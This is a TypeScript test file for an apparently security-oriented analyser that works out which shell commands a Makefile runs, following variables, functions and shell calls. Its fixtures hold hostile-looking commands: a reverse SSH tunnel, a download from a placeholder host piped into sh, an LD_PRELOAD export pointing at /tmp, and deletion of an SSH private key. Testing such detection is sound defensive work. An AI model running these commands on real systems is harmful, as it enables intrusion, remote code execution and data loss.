import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

const makefile = `A = x
HOST := u@h
TUNNEL = ssh -R 1:2:3 $(HOST)
CC ?= gcc
all: a.o
\t@$(TUNNEL)
\t-curl -o /tmp/f http://x.example/f
\t+cd sub && ls
\tsh /tmp/f
\techo $$HOME $(UNDEF) $@ $< \\
\t\tmore
%.o: %.c
\tnmap $@ $*
define canned
@nmap $(1)
nmap $(2)
endef
c:
\t$(call canned,one,two)
`;

describe("what a makefile runs", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string) => canonical(analyser, "makefile", text);
  const spans = (text: string) => commandSpans(analyser, "makefile", text);
  const problems = async (text: string) =>
    (await analyser.analyse({ path: "Makefile", text }, 5_000)).problems.map(({ code, weight, range }) => [
      code,
      weight,
      range?.start.line,
      range?.start.character,
    ]);

  it("is its recipes, expanded", async () => {
    assert.deepEqual(await lines(makefile), [
      "ssh -R=1:2:3 -- u@h",
      "curl -o=/tmp/f -- http://x.example/f",
      "cd -- sub",
      "ls",
      "sh -- /tmp/f",
      'echo -- ~ "$UNDEF" all a.o more',
      ":fetch http://x.example/f | :write /tmp/f",
      ":fetch http://x.example/f | :run sh",
      'nmap -- "$UNKNOWN" "$UNKNOWN"',
      "nmap -- one",
      "nmap -- two",
    ]);
  });

  it("is marked where it stands, what comes by a name where the name is used", async () => {
    const found = await spans(makefile);
    assert.deepEqual(found.slice(0, 6), [
      "$(TUNNEL)",
      "curl -o /tmp/f http://x.example/f",
      "cd sub",
      "ls",
      "sh /tmp/f",
      "echo $$HOME $(UNDEF) $@ $< \\\n\t\tmore",
    ]);
    assert.deepEqual(found.slice(-3), ["nmap $@ $*", "nmap $(1)", "nmap $(2)"]);
  });

  const forms: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["a recipe behind a semicolon", "a: b ; nmap h # i\n", "nmap -- h"],
    ["a recipe behind a semicolon, with a sign between quotes", "a: ; echo '#'; nmap h\n", "echo -- '#'", "nmap -- h"],
    ["a shell with a sign between quotes", "V := $(shell echo '#'; nmap h)\n", "echo -- '#'", "nmap -- h"],
    ["a shell that env finds", "SHELL := /usr/bin/env bash\na:\n\tnmap h\n", "nmap -- h"],
    ["a shell that nobody knows", "SHELL = ./my-shell\na:\n\tnmap h\n", "nmap -- h"],
    ["what it exports", "export LD_PRELOAD := /tmp/x.so\n", "'export' -- LD_PRELOAD=/tmp/x.so", ":set LD_PRELOAD /tmp/x.so"],
    ["a shell that make asks", "V := $(shell nmap h)\n", "nmap -- h"],
    ["a shell that an assignment asks", "V != nmap h\n", "nmap -- h"],
    [
      "a shell in a recipe, between quotes that only its own shell knows",
      "a:\n\techo '$(shell nmap h)'\n",
      "nmap -- h",
      "echo -- '$(nmap h)'",
    ],
    ["a value of several lines", "define R\nnmap h\n\t@nmap i\nendef\na:\n\t$(R)\n", "nmap -- h", "nmap -- i"],
    ["a value that grows", "A = nmap\nA += h\na:\n\t$(A) $(A:h=i)\n", "nmap -- h nmap i"],
    ["a name made of names", "X = A\nA = h\na:\n\tnmap $($(X)) ${$(X)}\n", "nmap -- h h"],
    ["a value that is set when it is read", "A := h\nB := $(A)\nA := i\na:\n\tnmap $(B)\n", "nmap -- h"],
    ["a value that is read when it is used", "B = $(A)\nA = h\na:\n\tnmap $(B)\n", "nmap -- h"],
    ["both ways of a conditional", "ifeq ($(X),1)\nW = h\nelse\nW = i\nendif\na:\n\tnmap $(W)\n", "nmap -- i", "nmap -- h"],
    ["a value that is read again after a change", "B = $(A)\nA = h\nX := $(B)\nA = i\nY := $(B)\na:\n\tnmap $(X) $(Y)\n", "nmap -- h i"],
    ["a value that depends on the target", "W = nmap $@\nV = $(W)\na:\n\t$(V)\nb:\n\t$(V)\n", "nmap -- a", "nmap -- b"],
    [
      "a value in which one part depends on the target",
      "H = h\nW = nmap $@ $(H)\nV = $(W)\na:\n\t$(V)\nb:\n\t$(V)\n",
      "nmap -- a h",
      "nmap -- b h",
    ],
    ["a variable of one target", "a: P = h\na:\n\tnmap $(P)\nb:\n\tnmap $(P)\n", "nmap -- h", 'nmap -- "$P"'],
    ["rules that make reads from a value", "define T\n$(1):\n\tnmap $(1)\nendef\n$(eval $(call T,h))\n", "nmap -- h"],
    [
      "functions",
      "a:\n\tnmap $(foreach i,h i,x-$(i)) $(subst a,b,banana) $(addprefix p/,a b) $(firstword m n) $(if $(X),y,z)\n",
      "nmap -- x-h x-i bbnbnb p/a p/b m y",
      "nmap -- x-h x-i bbnbnb p/a p/b m z",
    ],
    [
      "functions that are not followed",
      "a:\n\tnmap $(wildcard *.c) $(patsubst %.c,%.o,$(shell nmap h))\n",
      "nmap -- h",
      'nmap -- "$UNKNOWN" "$UNKNOWN"',
    ],
    ["predefined names", "a:\n\t$(RM) x $(HOME)/.ssh/id_rsa; $(MAKE) b\n", "rm -f -- x ~/.ssh/id_rsa", "make -- b"],
    ["dollars for the shell", "a:\n\tx=h; nmap $$x $${x}\n", "nmap -- h h"],
    ["a continued command", "a:\n\tnmap \\\n\t  h \\\n\t  i\n", "nmap -- h i"],
    ["a continued assignment", "A = nmap \\\n  h\na:\n\t$(A)\n", "nmap -- h"],
    ["Windows line ends", "A = h\r\na:\r\n\tnmap $(A)\r\n\tnmap i\r\n", "nmap -- h", "nmap -- i"],
    ["one shell for all lines", ".ONESHELL:\na:\n\t@x=h\n\tnmap $$x\n", "nmap -- h"],
    ["a shell for each line", "a:\n\tx=h\n\tnmap $$x\n", 'nmap -- "$x"'],
    ["another interpreter", ".ONESHELL:\nSHELL = /usr/bin/python3\na:\n\timport os\n\tos.system('nmap h')\n", "nmap -- h"],
    ["another sign for recipes", ".RECIPEPREFIX = >\na:\n>nmap h\n", "nmap -- h"],
    [
      "exported and overridden names",
      "export A = h\noverride B := i\na:\n\tnmap $(A) $(B)\n",
      "'export' -- A=h",
      ":set A h",
      "nmap -- h i",
    ],
  ];
  for (const [title, text, ...expected] of forms) it(`is read through ${title}`, async () => assert.deepEqual(await lines(text), expected));

  it("is nothing where nothing is run", async () => {
    assert.deepEqual(await lines("# nmap h\nA = nmap h\n.PHONY: nmap\nnmap: h\n$(info nmap h)\ninclude nmap.mk\n"), []);
    assert.deepEqual(await problems("# nmap h\nA = nmap h\n.PHONY: nmap\nnmap: h\n$(info nmap h)\ninclude nmap.mk\n"), []);
  });

  it("names the host", async () => {
    assert.deepEqual(await viaOf(analyser, "makefile", "A := $(shell nmap h)\na:\n\tsudo nmap i\n"), [
      ["makefile:shell"],
      ["makefile:recipe", "sudo"],
    ]);
  });

  it("says what it cannot read, and reads the rest", async () => {
    assert.deepEqual(await problems("foo bar\na:\n\tnmap h\n"), [["unparsed", "blocking", 0, 0]]);
    assert.deepEqual(await lines("foo bar\na:\n\tnmap h\n"), ["nmap -- h"]);
    assert.deepEqual(await problems("a:\n\tnmap h\nA = $(shell x\nb: $(A\n"), [["unparsed", "blocking", 3, 3]]);
    assert.deepEqual(await problems("define A\nx\n"), [["unparsed", "blocking", 0, 0]]);
  });

  it("does not let an open quote swallow the next line", async () => {
    assert.ok((await lines("a:\n\t-@echo 'x\n\tnmap h\n\techo 'y\n")).includes("nmap -- h"));
    assert.ok((await lines("a:\n\t-cat <<E\n\tnmap h\n")).includes("nmap -- h"));
  });

  it("says that a value is too large to be followed", async () => {
    const doubling = Array.from({ length: 30 }, (_, i) => `A${i + 1} = $(A${i})$(A${i})\n`).join("");
    assert.deepEqual(
      (await problems(`A0 = xxxxxxxxxx\n${doubling}a:\n\tnmap $(A22)\n`)).slice(0, 1).map(([code, weight]) => [code, weight]),
      [["too-large", "blocking"]],
    );
    assert.ok((await problems("define T\n$$(eval $$(call T))\nendef\n$(eval $(call T))\n")).some(([code]) => code === "too-deep"));
    assert.ok((await problems("A = $(A)x\na:\n\tnmap $(A)\n")).some(([code]) => code === "too-large"));
  });

  for (const [path, start] of [
    ["Makefile", ""],
    ["x/GNUmakefile", ""],
    ["a.mk", ""],
    ["Makefile.am", ""],
    ["debian/rules", "#!/usr/bin/make -f\n"],
  ] as const) {
    it(`may stand in ${path}`, () => assert.equal(analyser.languageOf(path, start), "makefile"));
  }

  it("survives what is nearly right", async () => {
    await survives(
      analyser,
      "makefile",
      mutations(
        makefile,
        ["$(", ")", "$", "\t", "\\\n", "define x\n", "endef\n", "$(eval ", "$(call canned,", "ifdef X\n", "=", ":", "#", "'"],
        200,
      ),
    );
  });
}).timeout(60_000);
